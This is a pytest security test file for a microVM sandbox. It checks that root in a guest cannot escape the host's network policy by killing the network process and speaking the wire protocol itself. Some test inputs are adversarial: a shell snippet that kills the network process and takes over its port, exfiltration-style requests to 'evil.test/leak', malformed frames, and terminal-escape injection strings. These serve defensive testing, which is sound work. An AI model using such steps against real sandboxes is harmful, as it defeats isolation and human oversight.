"""Root in the guest stops the network process and speaks to the host in its place: the policy is the same."""

import json
import os
import socket
import struct
from pathlib import Path

import pytest

from pytest_microvm.errors import MachineCrashed
from pytest_microvm.wire.channel import VERSION
from pytest_microvm.wire.frames import Kind, encode
from support.network import Server

# Stop the network process, then find the port. The shell's own words: each program costs time there.
IN_ITS_PLACE = """
for p in /proc/[0-9]*; do
  read name < $p/comm; [ "$name" = microvm-network ] && kill -9 ${p#/proc/} && stopped=yes
done
for p in /sys/class/virtio-ports/*; do
  read name < $p/name; [ "$name" = network ] && port=/dev/${p##*/}
done
[ "$stopped" ] || exit 99
"""
SAY = IN_ITS_PLACE + "until cat > $port; do :; done"  # it is busy until the process has gone

SPEAK = """
import json, os, socket, struct, sys

told = json.load(sys.stdin)
fd = os.open(os.environ["PORT"], os.O_RDWR)
data = b""

def say(kind, stream, payload):
    os.write(fd, struct.pack("!BII", kind, stream, len(payload)) + payload)

def hear():
    global data
    while len(data) < 9 or len(data) < 9 + struct.unpack("!BII", data[:9])[2]:
        data += os.read(fd, 65536)
    kind, stream, size = struct.unpack("!BII", data[:9])
    payload, data = data[9 : 9 + size], data[9 + size :]
    return kind, stream, payload

def ask(number, raw):
    say(2, 0, json.dumps({"event": "connect", "connection": number}).encode())
    answer, stream = b"", None
    while True:
        kind, of, payload = hear()
        if kind == 2 and json.loads(payload)["op"] == "accept":
            stream = json.loads(payload)["stream"]
            say(3, stream, raw.encode())
        elif kind == 3 and of == stream:
            answer += payload
        elif kind == 5 and of == stream:
            say(5, stream, b"")
            return answer.decode("latin-1")

say(1, 0, json.dumps({"version": told["version"], "role": "network"}).encode())
say(2, 0, json.dumps(told["packet"]).encode())
answers = [ask(number, raw) for number, raw in enumerate(told["requests"], 1)]
try:
    socket.create_connection(("203.0.113.1", 443), 20)
    direct = "connected"
except OSError as error:
    direct = str(error)
print(json.dumps({"answers": answers, "direct": direct}))
"""

FETCH = """
import socket

with socket.create_connection(("127.0.0.1", 3128)) as sock:
    sock.sendall(b"GET http://a.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n")
    print(sock.recv(1000).split()[1].decode())
"""

HELLO = encode(Kind.HELLO, 0, json.dumps({"version": VERSION, "role": "network"}).encode())
PACKET = {"event": "packet", "protocol": "TCP", "address": "203.0.113.9", "port": 9, "name": ""}


def message(**body):
    return HELLO + encode(Kind.MESSAGE, 0, json.dumps(body).encode())


VIOLATIONS = {
    "garbage": b"no frame at all, but long enough",
    "too long": struct.pack("!BII", Kind.MESSAGE, 0, 2**31),
    "stream out of range": HELLO + struct.pack("!BII", Kind.DATA, 2**32 - 1, 1),
    "no hello": encode(Kind.MESSAGE, 0, json.dumps({"event": "connect", "connection": 1}).encode()),
    "hello twice": HELLO + HELLO,
    "bytes of no stream": HELLO + encode(Kind.DATA, 7, b"leak"),
    "end of no stream": HELLO + encode(Kind.CLOSE, 7),
    "credit without credit": HELLO + encode(Kind.CREDIT, 1, bytes(4)),
    "no JSON": HELLO + encode(Kind.MESSAGE, 0, b"\xff"),
    "deep JSON": HELLO + encode(Kind.MESSAGE, 0, b"[" * 500_000),
    "unknown event": message(event="leak"),
    "no number": message(event="connect", connection="leak"),
    "answer to nothing": message(id=3, result={}),
    "odd packet": message(**{**PACKET, "protocol": "\x1b[2J"}),
    "odd port": message(**{**PACKET, "port": True}),
}


def test_the_policy_is_the_same(host):
    with (
        Server() as server,
        host.start(image="python", network=["a.test"], hosts={"a.test": f"127.0.0.1:{server.port}"}) as vm,
    ):
        requests = [
            "GET http://evil.test/leak HTTP/1.1\r\nHost: evil.test\r\n\r\n",
            "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
            f"GET http://127.0.0.1:{server.port}/leak HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n\r\n",
            "GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n",
        ]
        told = {
            "version": VERSION,
            "packet": {**PACKET, "name": "\x1b]0;title\x07\n::error::"},
            "requests": requests,
        }
        vm.path("/tmp/speak.py").write_text(SPEAK)
        done = vm.run(IN_ITS_PLACE + "PORT=$port exec python3 /tmp/speak.py", input=json.dumps(told))
        assert done.returncode == 0, done.stderr
        said = json.loads(done.stdout)
        log = vm.network.requests
    assert [int(answer.split()[1]) for answer in said["answers"]] == [403, 403, 403, 200]
    assert [head.split()[1] for head in server.heads] == [b"/"]
    assert [(entry.allowed, entry.method, entry.port, entry.seen_by) for entry in log] == [
        (False, "TCP", 9, "guest"),  # root may lie about what it tried, in words that are safe to show
        (False, "GET", 80, "host"),
        (False, "CONNECT", 443, "host"),
        (False, "GET", server.port, "host"),
        (True, "GET", 80, "host"),
    ]
    assert not {"\x1b", "\x07", "\n"} & set(str(log[0]))
    # With the process its device has gone: the kernel has no way left, and nobody who would tell.
    assert "unreachable" in said["direct"]


@pytest.mark.parametrize("said", VIOLATIONS.values(), ids=VIOLATIONS)
def test_what_is_no_protocol_ends_the_machine(host, said):
    with host.start(image="base", network=["all"]) as vm:
        with pytest.raises(MachineCrashed, match="its network process broke the protocol"):
            vm.run(f"{SAY}; sleep 60", input=said, text=False)
        assert [entry for entry in vm.network.requests if entry.allowed] == []


def test_other_ports_lead_nowhere(host):
    """The agent's is taken, and only its own; the runner's is heard by nobody in a machine without one."""
    write = "for p in /dev/vport*; do echo leak > $p && echo $p; done; ls /dev/vport* /dev/hvc* | wc -l"
    with host.start(image="base", network=["all"]) as vm:
        done = vm.run(write)
        written = [line for line in done.stdout.splitlines() if line.startswith("/dev")]
        assert len(written) == 1
        assert done.stderr.count("busy") == 2
        assert vm.run(["echo", "still here"]).stdout == "still here\n"
        assert vm.network.requests == []


def test_a_machine_cannot_use_what_another_may(host):
    with (
        Server() as server,
        host.start(image="python", network=["a.test"], hosts={"a.test": f"127.0.0.1:{server.port}"}) as one,
        host.start(image="python") as other,
    ):
        fetch = ["python3", "-c", FETCH]
        before = listening()
        assert other.run(fetch, check=True).stdout == "403\n"
        assert one.run(fetch, check=True).stdout == "200\n"
        assert listening() == before  # there is nothing on this computer that anybody could connect to
        assert [(entry.allowed, entry.host) for entry in one.network.requests] == [(True, "a.test")]
        assert [(entry.allowed, entry.host) for entry in other.network.requests] == [(False, "a.test")]
    assert len(server.heads) == 1


def listening():
    """Return the sockets of this process and its children on which anybody could connect."""
    ours = [Path("/proc/self")]
    ours += [
        path.parent
        for path in Path("/proc").glob("[0-9]*/stat")
        if int(path.read_text().rpartition(")")[2].split()[1]) == os.getpid()
    ]
    files = [file for process in ours for file in (process / "fd").iterdir()]
    inodes = {str(file.readlink()) for file in files if file.is_symlink()}
    found = set()
    for name in ("tcp", "tcp6", "udp", "udp6", "unix"):
        for line in Path("/proc/net", name).read_text().splitlines()[1:]:
            fields = line.split()
            inode = fields[6] if name == "unix" else fields[9]
            listens = fields[3] == "00010000" if name == "unix" else fields[3] in ("0A", "07")
            if listens and f"socket:[{inode}]" in inodes:
                found.add((name, inode))
    return found


def test_what_listens_is_found():
    before = listening()
    with socket.create_server(("127.0.0.1", 0)):
        assert len(listening() - before) == 1
